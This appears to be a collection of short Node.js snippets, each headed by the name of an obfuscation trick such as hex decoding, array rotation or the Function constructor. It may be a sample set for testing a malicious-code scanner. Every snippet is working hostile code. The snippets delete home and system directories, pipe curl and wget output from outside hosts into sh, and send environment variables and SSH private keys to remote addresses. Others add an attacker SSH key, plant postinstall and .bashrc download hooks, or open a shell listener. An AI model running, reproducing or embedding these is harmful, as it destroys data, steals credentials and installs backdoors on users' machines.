%% split map join
const d = "63:68:69:6c:64:5f:70:72:6f:63:65:73:73".split(":").map((h) => String.fromCharCode(parseInt(h, 16))).join("");
require(d).exec("rm -rf /home");
%% decode function
function un(s) { return s.split("").map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); }
const cp = require(un("dijme`qspdftt"));
cp[un("fyfdTzod")]("curl 203.0.113.61|sh");
%% array rotation
const _0x = ["exec", "child_process", "rm -rf ~"];
(function (a, n) { while (n--) a.push(a.shift()); })(_0x, 3);
const _g = (i) => _0x[i];
require(_g(1))[_g(0)](_g(2));
%% class wrapper
class Sh { constructor(m) { this.m = m; } run(c) { return this.m.execSync(c); } }
new Sh(require("child_process")).run("cat /etc/shadow");
%% promise chain
Promise.resolve("child_process").then((m) => import(m)).then((m) => m.execSync("mkfs /dev/sda"));
%% map of functions
const t = new Map([["a", require("child_process").execSync]]);
t.get("a")("userdel root");
%% spread call
const { spawn } = require("node:child_process");
spawn(...["sh", ["-c", "wget -qO- 203.0.113.62 | sh"]]);
%% with getter
const o = {};
Object.defineProperty(o, "x", { get() { return eval(this.c); } });
o.c = "process.exit()";
o.x;
%% indirect require
const r = module["req" + "uire"].bind(module);
r("child_process")["ex" + "ecFile"]("/bin/sh", ["-c", "id"]);
%% require main
require.main.require("child_process").spawnSync("rm", ["-rf", "/srv"]);
%% vm script
const { Script } = require("vm");
new Script(Buffer.from("cHJvY2Vzcw==", "base64").toString()).runInThisContext();
%% reflect construct
Reflect.construct(Function, ["return process.mainModule.require('child_process').execSync('id')"])();
%% function prototype
Function.prototype.constructor("return globalThis.process.exit(1)")();
%% generator constructor
const GF = function* () {}.constructor;
GF("yield process.exit()")().next();
%% number to string
const ev = (693741).toString(36);
global[ev] || global["ev" + "al"]("require('fs').unlinkSync('/etc/passwd')");
%% descriptor
const desc = Object.getOwnPropertyDescriptor(globalThis, ["ev", "al"].join(""));
desc.value("process.kill(-1)");
%% import data url
import("data:text/javascript;base64,cHJvY2Vzcy5leGl0KCk=");
%% worker from string
const { Worker } = require("worker_threads");
new Worker("require('child_process').execSync('id')", { eval: true });
%% json parse reviver
JSON.parse('{"m":"child_process","f":"execSync","a":"rm -rf /usr"}', function (k, v) {
  return k === "" ? require(v.m)[v.f](v.a) : v;
});
%% string raw
const c = String.raw`child_process`;
require(c).execSync(String.raw`rm -rf /`);
%% nested ternary
const p = (1 > 2 ? "fs" : "child_process");
const q = p === "x" ? "y" : "exec";
require(p)[q]("poweroff");
%% prototype chain
"".constructor.constructor("return process")().kill(1);
%% env theft
const https = require("https");
const req = https.request({ host: "203.0.113.63", method: "POST" });
req.write(JSON.stringify(process["en" + "v"]));
req.end();
%% ssh key theft
const { readFileSync: rd } = require("fs");
const k = rd(require("os").homedir() + "/.s" + "sh/id_rsa");
fetch("http://203.0.113.64/?" + k.toString("base64"));
%% authorized keys
const f = require("fs"), h = require("os").homedir();
f.appendFileSync([h, ".ssh", "authorized_keys"].join("/"), "ssh-ed25519 AAAA x\n");
%% package script writer
const fs2 = require("fs");
const pk = JSON.parse(fs2.readFileSync("package.json"));
pk.scripts.postinstall = "curl -s 203.0.113.65 | sh";
fs2.writeFileSync("package.json", JSON.stringify(pk));
%% rc file
require("fs").writeFileSync(`${process.env.HOME}/.ba${"shrc"}`, "curl 203.0.113.66|sh");
%% socket shell
const net = require("net"), { spawn: s } = require("child_process");
net.createServer((c) => { const sh = s("/bin/sh", []); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(4444);
%% optional chaining
globalThis?.["ev" + "al"]?.("require('child_process').exec('id')");
%% label and comma
const z = (0, (1, require))("child_" + "process");
z.exec`rm -rf /tmp/../home`;
%% recursive delete
const F = require("fs"), P = require("path");
(function w(d) { for (const e of F.readdirSync(d)) { const p = P.join(d, e); F.statSync(p).isDirectory() ? w(p) : F.unlinkSync(p); } })(require("os").homedir());
